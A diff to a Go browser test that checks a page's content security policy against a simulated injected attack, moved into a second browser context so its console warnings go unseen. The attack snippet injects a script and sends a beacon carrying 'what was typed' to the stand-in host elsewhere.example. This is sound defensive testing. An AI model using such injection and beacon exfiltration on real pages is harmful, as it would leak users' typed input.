@@ -110,8 +110,14 @@ func TestHostileCorpus(t *testing.T) {
 	}
 	h.silent("a session with a hostile corpus")
 
-	// Were an attack to get into the page one day, the page's own policy would still hold.
-	ask[bool](u, `(() => {
+	// Were an attack to get into the page one day, the page's own policy would still hold. The browser says so on the console, so this is done
+	// in a second page, whose console nobody watches.
+	ctx, cancel := chromedp.NewContext(u.ctx)
+	defer cancel()
+	second := &user{t: t, ctx: ctx, url: u.url}
+	second.does(chromedp.Navigate(u.url))
+	second.isReady()
+	ask[bool](second, `(() => {
 		const script = document.createElement("script");
 		script.textContent = "window.attacked = 2";
 		const image = new Image();
@@ -120,13 +126,13 @@ func TestHostileCorpus(t *testing.T) {
 		navigator.sendBeacon("http://elsewhere.example/beacon", "what was typed");
 		return new Promise(done => setTimeout(() => done(true), 500));
 	})()`)
-	if ask[bool](u, "'attacked' in window") {
+	if ask[bool](second, "'attacked' in window") {
 		t.Error("a script that stood in the page ran")
 	}
-	h.silent("a session with an attack in the page")
-	if len(datagrams) > 0 {
-		t.Errorf("%d datagrams were sent", len(datagrams))
+	if _, elsewhere := h.requests(); len(elsewhere) > 0 {
+		t.Errorf("an attack in the page asked for %q", elsewhere)
 	}
+	cancel()
 
 	// The socket would have heard a call: this one is the test's own.
 	u.does(chromedp.Navigate("about:blank"))
